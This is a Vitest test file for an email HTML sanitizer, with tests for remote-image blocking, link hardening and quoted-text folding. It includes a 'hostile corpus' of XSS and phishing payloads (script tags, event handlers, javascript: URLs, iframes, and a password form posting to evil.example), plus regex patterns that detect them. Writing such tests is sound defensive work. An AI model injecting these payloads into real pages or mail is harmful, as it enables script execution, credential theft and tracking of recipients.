import { describe, expect, it } from "vitest";
import { sanitizeEmailHtml } from "@/lib/inbound/sanitize-email-html";

const clean = (html: string, showRemoteImages = false) => sanitizeEmailHtml(html, { showRemoteImages }).html;

// A hostile corpus: every way mail has been used to run code or leak a read.
const HOSTILE = [
  `<script>alert(1)</script>`,
  `<img src=x onerror="alert(1)">`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="JaVaScRiPt:alert(1)">click</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<svg onload="alert(1)"><circle r="10"/></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<div style="width: expression(alert(1))">css</div>`,
  `<div style="background:url(javascript:alert(1))">css</div>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<iframe src="https://evil.example"></iframe>`,
  `<object data="evil.swf"></object><embed src="evil.swf">`,
  `<form action="https://evil.example"><input name="password"><button>Log in</button></form>`,
  `<body onload="alert(1)">body</body>`,
  `<style>body{background:url(https://tracker.example/p.gif)}</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<base href="https://evil.example/">`,
  `<math><mtext><script>alert(1)</script></mtext></math>`,
  `<p onclick="alert(1)" onmouseover="alert(1)">hover</p>`,
  `<a href="//evil.example/x">protocol-relative</a>`,
];

describe("sanitizeEmailHtml", () => {
  it("leaves nothing that can run, submit or load from the hostile corpus", () => {
    const output = clean(HOSTILE.join("\n"));
    for (const forbidden of [
      /<script/i,
      /\bon\w+\s*=/i,
      /javascript:/i,
      /<svg/i,
      /expression\(/i,
      /url\(/i,
      /<meta/i,
      /<iframe/i,
      /<object/i,
      /<embed/i,
      /<form/i,
      /<input/i,
      /<button/i,
      /<style/i,
      /<link/i,
      /<base/i,
      /<math/i,
      /href="\/\//i,
      /data:text\/html/i,
    ]) {
      expect(output).not.toMatch(forbidden);
    }
    expect(output).toContain("hover");
  });

  it("holds back remote images until asked, and counts them", () => {
    const mail = `<p>Photo:</p><img src="https://tracker.example/pixel.gif" alt="pixel"><img src="cid:photo1">`;
    const blocked = sanitizeEmailHtml(mail, { showRemoteImages: false });
    expect(blocked.blockedImages).toBe(1);
    expect(blocked.html).not.toMatch(/\ssrc="https:\/\/tracker/);
    expect(blocked.html).toContain('data-blocked-src="https://tracker.example/pixel.gif"');
    expect(blocked.html).toContain('src="cid:photo1"');
    expect(clean(mail, true)).toContain('src="https://tracker.example/pixel.gif"');
  });

  it("drops images whose source is relative or protocol-relative, even when images are shown", () => {
    for (const src of ["x", "/api/health", "//tracker.example/p.gif", " javascript:alert(1)"]) {
      expect(clean(`<p>a</p><img src="${src}">`, true)).toBe("<p>a</p>");
    }
  });

  it("keeps ordinary formatting, opens links safely, and folds quoted text", () => {
    const output = clean(
      `<p>Bonjour <b>Léa</b>, <a href="https://shop.example/x">ici</a></p><blockquote><p>Earlier mail</p></blockquote>`,
    );
    expect(output).toContain("<b>Léa</b>");
    expect(output).toContain(
      '<a href="https://shop.example/x" target="_blank" rel="noopener noreferrer nofollow">ici</a>',
    );
    expect(output).toContain(
      '<details class="quoted"><summary>Show quoted text</summary><p>Earlier mail</p></details>',
    );
  });
});
